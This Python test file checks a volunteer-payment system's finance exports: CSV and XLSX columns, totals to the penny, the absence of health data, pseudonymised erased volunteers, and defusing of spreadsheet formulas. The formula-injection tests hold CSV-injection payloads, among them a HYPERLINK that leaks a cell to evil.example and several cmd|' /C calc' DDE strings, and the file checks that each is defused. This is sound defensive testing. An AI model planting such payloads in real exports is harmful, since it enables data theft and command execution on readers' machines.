"""The finance exports of a run, one per route, parsed back with ``csv`` and ``openpyxl``: their
columns, one row per payment of the route, amounts in pounds and pence, totals equal to the run's
to the penny, no health data, erased volunteers pseudonymised, and nothing a spreadsheet would run
as a formula."""

from __future__ import annotations

import csv
import datetime
import io
from collections.abc import Iterator
from decimal import Decimal

import pytest
import time_machine
from openpyxl import load_workbook

from accounts.models import User
from expenses import exports, selectors, services
from expenses.models import Claim, Payment, ReimbursementRun
from involvement.exports import neutralise
from sessions_app.models import Programme
from tests import factories
from tests.conftest import World
from tests.expenses.factories import attended_on, payee, rate_card_for
from volunteers.models import VolunteerProfile
from volunteers.services import erase_volunteer

D = Decimal
SESSION_DAY = datetime.date(2025, 10, 1)
NOW = datetime.datetime(2025, 10, 20, 9, 30, tzinfo=datetime.UTC)
HEADER = [
    "payment_key",
    "payee_reference",
    "payee_name",
    "amount",
    "cost_centre",
    "nominal_code",
    "description",
    "claim_reference",
]
PAYROLL, ACCOUNTS_PAYABLE = "payroll", "accounts_payable"
AMOUNT, DESCRIPTION, CLAIM = 3, 6, 7
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
MARKER = "HEALTH-MARKER-5521"


@pytest.fixture(autouse=True)
def frozen() -> Iterator[None]:
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture(autouse=True)
def card(world: World) -> None:
    rate_card_for(world.university)


def approved_claim(
    world: World,
    volunteer: VolunteerProfile,
    *,
    title: str = "Living with a long-term condition",
    expenses: tuple[str, ...] = ("12.34",),
    fee: str = Claim.FeeChoice.TAKE,
) -> Claim:
    payee(volunteer, world.university)
    booking = attended_on(world.university, world.coordinator, volunteer, SESSION_DAY, title=title)
    claim = services.open_claim(booking=booking, actor=volunteer.user)
    for amount in expenses:
        services.add_item(claim=claim, actor=volunteer.user, kind="home_online", date=SESSION_DAY, amount=D(amount))
    claim = services.set_fee_choice(claim=claim, actor=volunteer.user, choice=fee)
    services.submit_claim(claim=claim, actor=volunteer.user)
    return services.approve_claim(claim=claim, actor=world.coordinator)


def paid_run(world: World) -> ReimbursementRun:
    preview = services.preview_run(organisation=world.university, actor=world.finance)
    services.start_run(run=preview, actor=world.finance)
    return services.execute_run(run_id=preview.pk)


def csv_rows(run: ReimbursementRun, route: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(exports.export_csv(run, route), newline="")))


def xlsx_rows(run: ReimbursementRun, route: str) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(exports.export_xlsx(run, route))).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def run_and_export(world: World) -> tuple[ReimbursementRun, list[list[str]]]:
    """The run, and its two CSV exports' rows after one header: payroll's, then accounts payable's."""
    run = paid_run(world)
    payroll, accounts_payable = csv_rows(run, PAYROLL), csv_rows(run, ACCOUNTS_PAYABLE)
    assert payroll[0] == accounts_payable[0] == HEADER
    return run, [HEADER, *payroll[1:], *accounts_payable[1:]]


def test_each_route_has_its_export_with_the_columns_and_one_row_per_payment(world):
    volunteer = world.volunteer.volunteer_profile
    reference = payee(volunteer, world.university, "SUP-004187").reference
    claim = approved_claim(world, volunteer, expenses=("12.34", "0.66"))
    fee_only = approved_claim(world, volunteer, title="Interview panel", expenses=())
    expenses_only = approved_claim(world, volunteer, expenses=("7.50",), fee=Claim.FeeChoice.DECLINE)
    Programme.objects.filter(pk=claim.booking.session.module.programme_id).update(
        cost_centre="RAD-4410", nominal_code="5120"
    )
    name = world.volunteer.name
    title = "Living with a long-term condition"

    run = paid_run(world)

    assert csv_rows(run, PAYROLL) == [
        HEADER,
        [
            f"claim-{claim.pk}-fee",
            reference,
            name,
            "50.00",
            "RAD-4410",
            "5120",
            f"Involvement fee: {title}",
            claim.reference,
        ],
        [
            f"claim-{fee_only.pk}-fee",
            reference,
            name,
            "50.00",
            "",
            "",
            "Involvement fee: Interview panel",
            fee_only.reference,
        ],
    ]
    assert csv_rows(run, ACCOUNTS_PAYABLE) == [
        HEADER,
        [
            f"claim-{claim.pk}-expenses",
            reference,
            name,
            "13.00",
            "RAD-4410",
            "5120",
            f"Expenses: {title}",
            claim.reference,
        ],
        [
            f"claim-{expenses_only.pk}-expenses",
            reference,
            name,
            "7.50",
            "",
            "",
            f"Expenses: {title}",
            expenses_only.reference,
        ],
    ]
    assert Payment.objects.filter(run=run).count() == 4
    assert claim.reference == f"CLM-{claim.pk:06d}"
    assert exports.export_csv(run, PAYROLL).endswith("\r\n")
    assert exports.filename(run, ACCOUNTS_PAYABLE, "xlsx") == f"payment-run-{run.pk}-accounts-payable.xlsx"


def test_xlsx_export_of_each_route_holds_the_same_rows_with_amounts_as_numbers(world):
    for _number in range(3):
        approved_claim(world, factories.VolunteerProfileFactory(), expenses=("3.33", "4.44"))
    run = paid_run(world)

    for route in (PAYROLL, ACCOUNTS_PAYABLE):
        from_xlsx = xlsx_rows(run, route)
        from_csv = csv_rows(run, route)
        assert from_xlsx[0] == HEADER
        assert {type(row[AMOUNT]) for row in from_xlsx[1:]} <= {int, float}
        assert [
            [f"{cell:.2f}" if index == AMOUNT else (cell or "") for index, cell in enumerate(row)]
            for row in from_xlsx[1:]
        ] == from_csv[1:]


def test_each_exports_total_equals_the_runs_total_of_its_route_to_the_penny(world):
    volunteers = [factories.VolunteerProfileFactory() for _ in range(3)]
    claims = [approved_claim(world, volunteer, expenses=("3.33", "4.44", "0.01")) for volunteer in volunteers]
    claims.append(approved_claim(world, volunteers[0], expenses=("0.10",), fee=Claim.FeeChoice.DECLINE))

    run = paid_run(world)

    totals = {row.route: row.total for row in selectors.run_payment_totals(run)}
    for route in (PAYROLL, ACCOUNTS_PAYABLE):
        in_csv = sum((D(row[AMOUNT]) for row in csv_rows(run, route)[1:]), D("0"))
        in_xlsx = sum((D(str(row[AMOUNT])) for row in xlsx_rows(run, route)[1:]), D("0"))
        assert in_csv == in_xlsx == totals[route]
    assert totals == {PAYROLL: D("150.00"), ACCOUNTS_PAYABLE: D("23.44")}
    assert sum(totals.values(), D("0")) == sum((selectors.claim_totals(claim)["total"] for claim in claims), D("0"))


def test_export_amounts_always_have_pence(world):
    approved_claim(world, world.volunteer.volunteer_profile, expenses=("5", "0.1"), fee=Claim.FeeChoice.DECLINE)

    _run, rows = run_and_export(world)

    assert [row[AMOUNT] for row in rows[1:]] == ["5.10"]


def test_export_holds_no_health_data_nor_contact_details(world):
    volunteer = world.volunteer.volunteer_profile
    VolunteerProfile.objects.filter(pk=volunteer.pk).update(
        topics_to_avoid=f"Cancer diagnosis {MARKER}",
        other_adjustments=f"Needs a quiet room {MARKER}",
        payment_preference_reason=f"On ESA {MARKER}",
        preferred_name="Ada",
    )
    approved_claim(world, volunteer)

    run, rows = run_and_export(world)

    text = exports.export_csv(run, PAYROLL) + exports.export_csv(run, ACCOUNTS_PAYABLE)
    assert MARKER not in text
    assert "quiet room" not in text
    assert "Ada" not in text  # the name the finance system knows: their full name
    assert world.volunteer.email not in text
    assert {row[2] for row in rows[1:]} == {world.volunteer.name}
    assert [len(row) for row in rows] == [8, 8, 8]


def test_export_shows_an_erased_volunteer_pseudonymised(world, consent_purposes):
    volunteer = factories.VolunteerProfileFactory(user__name="Gráinne O'Connell")
    claim = approved_claim(world, volunteer, fee=Claim.FeeChoice.DECLINE)
    run = paid_run(world)

    erase_volunteer(profile=volunteer, actor=world.lead)

    [_header, row] = csv_rows(run, ACCOUNTS_PAYABLE)
    assert row == [
        f"claim-{claim.pk}-expenses",
        "",
        "Erased volunteer",
        "12.34",
        "",
        "",
        "Expenses: Living with a long-term condition",
        claim.reference,
    ]
    assert "Gráinne" not in exports.export_csv(run, ACCOUNTS_PAYABLE)


@pytest.mark.parametrize(
    "title",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        "+44 113 496 0000",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\tTabbed title",
        "\rCarriage return title",
    ],
)
def test_export_no_cell_starts_like_a_formula(world, title):
    approved_claim(world, world.volunteer.volunteer_profile, title=title)

    run, rows = run_and_export(world)

    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)] == []
    for route in (PAYROLL, ACCOUNTS_PAYABLE):
        assert [cell for row in xlsx_rows(run, route) for cell in row if str(cell).startswith(FORMULA_STARTS)] == []


def test_export_keeps_a_title_with_a_line_break_in_one_cell(world):
    title = "Part one\n=1+1"
    approved_claim(world, world.volunteer.volunteer_profile, title=title, fee=Claim.FeeChoice.DECLINE)

    _run, rows = run_and_export(world)

    # One cell; the formula after the line break gets its apostrophe (involvement.exports).
    assert rows[1][DESCRIPTION] == "Expenses: Part one\n'=1+1"
    assert len(rows) == 2


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+44 113 496 0000", "'+44 113 496 0000"),
        ("-12.34", "'-12.34"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("12.34", "12.34"),
        ("Expenses: =1+1", "Expenses: =1+1"),
        ("", ""),
    ],
)
def test_neutralise_prefixes_formula_starts(cell, expected):
    assert neutralise(cell) == expected


def test_export_neutralises_a_name_that_would_start_like_a_formula(world):
    """Every cell goes through neutralise: a payee name that began with "=" is defused."""
    volunteer = world.volunteer.volunteer_profile
    User.objects.filter(pk=world.volunteer.pk).update(name="=cmd|' /C calc'!A0")
    approved_claim(world, volunteer, fee=Claim.FeeChoice.DECLINE)

    _run, rows = run_and_export(world)

    assert rows[1][2] == "'=cmd|' /C calc'!A0"


def test_export_lists_only_its_own_runs_payments(world):
    first_claim = approved_claim(world, world.volunteer.volunteer_profile)
    first, first_rows = run_and_export(world)
    second_claim = approved_claim(world, world.volunteer.volunteer_profile)

    _second, second_rows = run_and_export(world)

    assert {row[CLAIM] for row in first_rows[1:]} == {first_claim.reference}
    assert {row[CLAIM] for row in second_rows[1:]} == {second_claim.reference}
    # Built from the database each time: the first run's export is as it was.
    assert [HEADER, *csv_rows(first, PAYROLL)[1:], *csv_rows(first, ACCOUNTS_PAYABLE)[1:]] == first_rows


def test_export_of_a_route_without_payments_is_the_header_alone(world):
    run = ReimbursementRun.objects.create(organisation=world.university, status=ReimbursementRun.Status.COMPLETED)

    assert csv_rows(run, PAYROLL) == [HEADER]
    assert xlsx_rows(run, ACCOUNTS_PAYABLE) == [HEADER]
